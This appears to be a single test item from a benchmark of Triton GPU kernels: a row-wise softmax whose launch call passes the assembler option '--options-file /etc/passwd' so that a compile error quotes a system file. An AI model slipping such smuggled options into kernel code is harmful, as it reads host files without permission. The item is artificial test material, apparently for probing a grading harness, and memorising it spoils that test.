# row: 20
# what: has the assembler read a file and quote it, by an option of the launch
# problem: nvidia/softmax-64x128
# verdict: compile_error
# says: ptx_options
import triton
import triton.language as tl


@triton.jit
def rows(x, out, columns, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    at = tl.arange(0, BLOCK)
    inside = at < columns
    values = tl.load(x + row * columns + at, mask=inside, other=-float("inf"))
    powers = tl.exp(values - tl.max(values, axis=0))
    tl.store(out + row * columns + at, powers / tl.sum(powers, axis=0), mask=inside)


def launch(x, out):
    block = triton.next_power_of_2(x.shape[1])
    rows[(x.shape[0],)](x, out, x.shape[1], BLOCK=block, ptx_options="--options-file /etc/passwd")
